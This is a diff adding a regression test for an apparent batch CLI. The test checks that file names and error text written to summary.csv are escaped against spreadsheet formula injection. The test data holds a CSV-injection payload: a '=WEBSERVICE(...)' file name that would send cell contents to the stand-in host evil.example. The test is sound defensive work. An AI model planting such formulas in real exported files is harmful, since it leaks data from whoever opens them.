@@ -10,3 +10,28 @@ def test_allow_given_twice_allows_both_tools() -> None:
     assert args.allow == ["python", "read_file"]
     assert parser().parse_args(["p", "a.csv", "--allow", "python", "read_file"]).allow == ["python", "read_file"]
     assert parser().parse_args(["p", "a.csv"]).allow == []
+
+
+def test_the_summary_csv_holds_no_formula_a_submitted_file_name_or_an_error_would_make(tmp_path, monkeypatch) -> None:
+    """A submitted file named ``=WEBSERVICE(…).csv`` (a valid name: ``CHAR(47)`` spells ``/``) was written
+    to ``summary.csv`` as it is, and a spreadsheet opening the summary ran it (attacker pass 13)."""
+    import csv
+
+    from nbagent.batch import __main__ as cli
+    from nbagent.batch.item import ItemResult
+
+    name = '=WEBSERVICE("http:"&CHAR(47)&CHAR(47)&"evil.example"&CHAR(47)&A3).csv'
+    rows = [ItemResult(name, "error", error="-1 is no budget"), ItemResult("ok.csv", "end_turn", cost_usd=0.01)]
+
+    class Done:
+        def __init__(self, **_kw: object) -> None: ...
+
+        def run(self, _pool: object) -> list[ItemResult]:
+            return rows
+
+    monkeypatch.setattr(cli, "Fleet", Done)
+    cli.main(["p", name, "ok.csv", "--out", str(tmp_path)])
+    with open(tmp_path / "summary.csv", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert f"'{name}" in cells and "'-1 is no budget" in cells and "ok.csv" in cells
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
